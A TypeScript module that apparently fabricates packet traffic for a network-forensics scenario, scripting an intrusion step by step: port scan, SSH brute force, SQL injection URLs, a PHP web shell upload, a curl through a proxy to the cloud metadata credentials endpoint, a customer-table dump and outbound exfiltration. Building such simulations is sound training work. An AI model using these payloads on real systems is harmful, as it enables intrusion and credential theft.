/** What the intruder does, from the first probe to the transfer. */
import { concat } from "../../test/builders/layer.ts";
import {
  mysqlQuery,
  mysqlRows,
  noise,
  sshClientKeys,
  sshKexInit,
  sshServerKeys,
} from "../../test/builders/messages.ts";
import { type Packet, Talk, bareSyn, scanSequence } from "../../test/builders/talk.ts";
import { SECOND, at, capture } from "./clock.ts";
import { logIn } from "./mysql.ts";
import type { Network } from "./network.ts";
import { page } from "./page.ts";
import { outside, production } from "./world.ts";

const { web, app, bastion, database } = production;

/** SYNs to 240 ports of the web server and 40 of the bastion: all but the open ones are REJECTed, so only those are mirrored. */
export function portScan(network: Network): void {
  const open: Readonly<Record<string, readonly number[]>> = { [web.address]: [80, 443], [bastion.address]: [22] };
  for (let n = 0; n < 280; n++) {
    const target = n < 240 ? web : bastion;
    const port = n < 240 ? 20 + n * 2 : n - 240 + 1;
    const time = at(95 + n * 0.11);
    const answered = open[target.address].includes(port);
    network.send(bareSyn(time, outside.scanner, 61000, target.address, port), { rejected: !answered });
    if (answered) answerScan(network, time, target.address, port);
  }
  // Port 443 was skipped by the even numbers; the scanner comes back for it.
  network.send(bareSyn(at(127), outside.scanner, 61001, web.address, 443));
  answerScan(network, at(127), web.address, 443, 61001);
}

function answerScan(network: Network, time: number, server: string, port: number, scannerPort = 61000): void {
  const send = (packet: Packet) => {
    if (!(packet.flags === 2)) network.send(packet);
  };
  const isn = [scanSequence(time), port * 1000003] as const;
  const talk = new Talk({
    at: time,
    client: outside.scanner,
    clientPort: scannerPort,
    server,
    serverPort: port,
    send,
    isn,
  });
  talk.packet(0, "S").packet(1, "SA").packet(0, "R");
}

/** 240 guesses at the bastion's SSH, the last of which gets in. */
export function bruteForce(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  for (let n = 0; n < 240; n++) {
    const options = {
      client: outside.scanner,
      clientPort: 33000 + n,
      server: bastion.address,
      serverPort: 22,
      send,
      delay: 14000,
    };
    const talk = new Talk({ ...options, at: at(180 + n * 0.85) }).open();
    talk.say(1, "SSH-2.0-OpenSSH_9.6p1\r\n").say(0, "SSH-2.0-libssh2_1.11.0\r\n");
    talk
      .say(0, sshKexInit(700, n))
      .say(1, concat(sshKexInit(856, n + 1), sshServerKeys(n + 1)))
      .say(0, concat(sshClientKeys(n + 2), noise(26, n + 2)))
      .say(1, noise(60, n + 3));
    if (n === 239)
      for (let line = 0; line < 30; line++) talk.say(line % 2 ? 1 : 0, noise(64 + line * 3, line)).pause(0.4);
    talk.close(n === 239 ? 0 : 1);
  }
}

/** SQL injection, a web shell, and a request for instance credentials through the application server's proxy. */
export function injection(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  const browse = (seconds: number, port: number) =>
    new Talk({
      at: at(seconds),
      client: outside.injector,
      clientPort: port,
      server: web.address,
      serverPort: 80,
      send,
      delay: 13000,
    });
  const get = (path: string) =>
    `GET ${path} HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: sqlmap/1.8\r\nAccept: */*\r\n\r\n`;
  for (let n = 0; n < 12; n++) {
    const path = `/item.php?id=1%27%20UNION%20SELECT%20${["NULL", "user()", "version()"][n % 3]}%2C${n}--%20-`;
    browse(410 + n * 3, 52000 + n)
      .open()
      .say(0, get(path))
      .say(1, page(n < 3 ? "500 Internal Server Error" : "200 OK", `<p>${n}</p>`))
      .close();
  }
  const shell =
    "--x\r\nContent-Disposition: form-data; name=f; filename=img.php\r\n\r\n<?php system($_GET['c']); ?>\r\n--x--\r\n";
  const post = `POST /upload.php HTTP/1.1\r\nHost: shop.example.com\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${shell.length}\r\n\r\n`;
  browse(455, 52100)
    .open()
    .say(0, post + shell)
    .say(1, page("201 Created", "/uploads/img.php"))
    .close();
  browse(461, 52101)
    .open()
    .say(0, get("/uploads/img.php?c=id"))
    .say(1, page("200 OK", "uid=33(www-data) gid=33(www-data)"))
    .close();
  const metadata = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
  browse(467, 52102)
    .open()
    .say(0, get(`/uploads/img.php?c=curl%20-x%20app.internal:8080%20${metadata}`))
    .say(1, page("200 OK", "app-role"))
    .close();
  const proxied = new Talk({
    at: at(467.2),
    client: web.address,
    clientPort: 42900,
    server: app.address,
    serverPort: 8080,
    send,
    delay: 400,
  });
  proxied.open().say(0, `GET ${metadata} HTTP/1.1\r\nHost: 169.254.169.254\r\nUser-Agent: curl/8.5.0\r\n\r\n`);
  // The application server asks its own metadata service: neither mirrored nor logged.
  new Talk({
    at: proxied.at,
    client: app.address,
    clientPort: 47000,
    server: "169.254.169.254",
    serverPort: 80,
    send,
    delay: 100,
  })
    .open()
    .close();
  proxied.say(1, page("200 OK", "app-role")).close();
}

/** From the web server: a sweep for SSH through the application subnet, a log-in there, a refused try at the database. */
export function lateralMovement(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  for (let n = 0; n < 40; n++) network.send(bareSyn(at(500 + n * 0.05), web.address, 43000, `10.0.2.${100 + n}`, 22));
  const ssh = new Talk({
    at: at(506),
    client: web.address,
    clientPort: 43100,
    server: app.address,
    serverPort: 22,
    send,
    delay: 400,
  }).open();
  ssh
    .say(1, "SSH-2.0-OpenSSH_9.6p1\r\n")
    .say(0, "SSH-2.0-OpenSSH_9.2p1\r\n")
    .say(0, concat(sshKexInit(736, 7), sshClientKeys(7)))
    .say(1, concat(sshKexInit(776, 8), sshServerKeys(8)));
  for (let line = 0; line < 24; line++) ssh.say(line % 2 ? 1 : 0, noise(80 + line * 5, line)).pause(0.5);
  ssh.close();
  for (let n = 0; n < 3; n++)
    network.send(bareSyn(at(530 + n), web.address, 43200, database.address, 3306, 77_000), { rejected: true });
}

/** The application server reads the whole customer table; its mirror session loses two fifths of the answer. */
export function databaseDump(network: Network): void {
  let count = 0;
  const send = (packet: Packet): void => {
    const lost = packet.src === database.address && packet.bytes.length > 1000 && count++ % 5 < 2;
    network.send(packet, { lostBy: lost ? [102] : [] });
  };
  const dump = new Talk({
    at: at(560),
    client: app.address,
    clientPort: 40399,
    server: database.address,
    serverPort: 3306,
    send,
    delay: 300,
  });
  logIn(dump.open(), "shop_app", 3)
    .say(0, mysqlQuery("select * from customers"))
    .say(1, mysqlRows(1448 * 320, "customers"))
    .close();
}

/** 1.2 GB go out after the captures have ended: only the flow logs know. */
export function outboundTransfer(network: Network): void {
  const ports = {
    src: web.address,
    dst: outside.dropPoint,
    protocol: 6,
    srcPort: 44444,
    dstPort: 443,
    fromClient: true,
  };
  const back = {
    src: outside.dropPoint,
    dst: web.address,
    protocol: 6,
    srcPort: 443,
    dstPort: 44444,
    fromClient: false,
  };
  const full = new Uint8Array(1500);
  const ack = new Uint8Array(52);
  const start = capture.to + 110 * SECOND;
  network.send({ ...ports, at: start, flags: 2, bytes: new Uint8Array(60) });
  network.send({ ...back, at: start + 15000, flags: 18, bytes: new Uint8Array(60) });
  network.repeat(web, "egress", { ...ports, at: start + 30000, flags: 16, bytes: full }, 800_000, 105);
  network.repeat(web, "ingress", { ...back, at: start + 45000, flags: 16, bytes: ack }, 400_000, 210);
}
